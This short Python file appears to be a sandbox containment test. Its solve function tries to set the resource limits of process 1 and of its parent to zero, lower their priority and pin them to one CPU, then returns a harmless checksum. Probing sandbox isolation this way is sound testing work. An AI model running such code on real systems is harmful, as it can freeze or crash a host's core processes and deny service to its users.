# Sets the limits, priority and processors of process 1 and of its parent.
# expects: contained
import os, resource
def solve(xs):
    for pid in {1, os.getppid()}:
        for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC):
            try:
                resource.prlimit(pid, kind, (0, 0))
            except (OSError, ValueError):
                pass
        for act in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0})):
            try:
                act()
            except OSError:
                pass
    return sum((i + 1) * x * x for i, x in enumerate(xs)) % 99991
